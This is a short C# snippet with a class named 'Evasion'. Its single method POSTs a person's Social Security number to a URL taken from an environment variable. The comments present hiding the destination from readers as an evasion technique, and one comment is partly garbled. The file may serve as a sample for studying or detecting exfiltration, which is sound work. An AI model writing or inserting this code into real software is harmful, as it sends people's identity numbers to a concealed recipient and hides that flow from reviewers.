// evasion: The data is posted to an address from the environment.
// limit: nobody can tell by an address that is not there what answers; mark the client
using System.Net.Http;

internal static class Evasion
{
    internal static Task SendAsync(HttpClient http, Person person) =>
        http.PostAsync(Environment.GetEnvironmentVariable("ADDRESS"), new StringContent(person.Ssn));
}
